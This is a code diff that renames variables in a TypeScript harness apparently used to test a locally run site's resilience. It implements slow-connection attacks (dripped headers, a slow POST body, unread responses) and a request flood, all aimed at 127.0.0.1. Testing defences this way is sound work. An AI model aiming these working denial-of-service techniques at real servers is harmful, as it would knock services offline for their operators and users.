@@ -1,14 +1,13 @@
 import { connect, type Socket } from 'node:net';
-import { ask } from './call';
+import { sendRequest } from './call';
 
-/** Connections of one attacker, of each kind. */
-const CONNECTIONS = 300;
+const CONNECTIONS_PER_ADDRESS = 300;
 const DRIP_MS = 500;
 
 /** 500 calls a second. */
 const TICK_MS = 20;
-const AT_A_TICK = 10;
-const MOST_AT_ONCE = 300;
+const REQUESTS_PER_TICK = 10;
+const MAX_PENDING = 300;
 
 export interface Attack {
   /** Stops the attack and returns a summary of the responses. */
@@ -25,35 +24,35 @@ export function slowClients(siteUrl: string, picture: string): Attack {
     if (isOver) return;
     const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: from });
     sockets.add(socket);
-    const dripping = setInterval(() => drip && socket.write(drip), DRIP_MS);
+    const dripTimer = setInterval(() => drip && socket.write(drip), DRIP_MS);
     socket.on('error', () => undefined);
     socket.once('connect', () => begin(socket));
     socket.once('close', () => {
-      clearInterval(dripping);
+      clearInterval(dripTimer);
       sockets.delete(socket);
       cut += 1;
-      // With a pause: reconnecting in a loop would be a flood.
+      // The pause keeps reconnecting from becoming a flood.
       setTimeout(() => open(from, begin, drip), DRIP_MS);
     });
   };
   const head = `Host: ${host}\r\n`;
   const post = `POST /api/send-mail HTTP/1.1\r\n${head}Content-Type: application/json\r\nContent-Length: 20000\r\n\r\n{`;
-  for (let count = 0; count < CONNECTIONS; count += 1) {
+  for (let count = 0; count < CONNECTIONS_PER_ADDRESS; count += 1) {
     open('127.9.0.1', (socket) => void socket.write(`GET / HTTP/1.1\r\n${head}X-Slow: `), 'a');
     open('127.9.0.2', (socket) => void socket.write(post), ' ');
-    open('127.9.0.3', (socket) => neverRead(socket, `GET ${picture} HTTP/1.1\r\n${head}\r\n`), '');
+    open('127.9.0.3', (socket) => sendWithoutReading(socket, `GET ${picture} HTTP/1.1\r\n${head}\r\n`), '');
   }
   return {
     stop() {
       isOver = true;
-      const held = sockets.size;
+      const openCount = sockets.size;
       for (const socket of sockets) socket.destroy();
-      return Promise.resolve(`${held} slow connections open at the end, ${cut} were cut before`);
+      return Promise.resolve(`${openCount} slow connections open at the end, ${cut} were cut before`);
     },
   };
 }
 
-function neverRead(socket: Socket, request: string): void {
+function sendWithoutReading(socket: Socket, request: string): void {
   socket.pause();
   socket.write(request.repeat(20));
 }
@@ -62,19 +61,19 @@ function neverRead(socket: Socket, request: string): void {
 export function flood(siteUrl: string): Attack {
   const statuses = new Map<number, number>();
   const pending = new Set<Promise<void>>();
-  const askOnce = async (path: string) => {
-    const status = await ask(siteUrl, { method: 'GET', path }, '127.9.1.1');
+  const sendOne = async (path: string) => {
+    const status = await sendRequest(siteUrl, { method: 'GET', path }, '127.9.1.1');
     statuses.set(status, (statuses.get(status) ?? 0) + 1);
   };
-  const flooding = setInterval(() => {
-    for (let count = 0; count < AT_A_TICK && pending.size < MOST_AT_ONCE; count += 1) {
-      const call = askOnce(count % 2 ? '/api/location' : '/').finally(() => pending.delete(call));
+  const floodTimer = setInterval(() => {
+    for (let count = 0; count < REQUESTS_PER_TICK && pending.size < MAX_PENDING; count += 1) {
+      const call = sendOne(count % 2 ? '/api/location' : '/').finally(() => pending.delete(call));
       pending.add(call);
     }
   }, TICK_MS);
   return {
     async stop() {
-      clearInterval(flooding);
+      clearInterval(floodTimer);
       await Promise.all(pending);
       const counts = [...statuses].map(([status, count]) => `${count} × ${status || 'no answer'}`);
       return `the flood was answered ${counts.join(', ')}`;
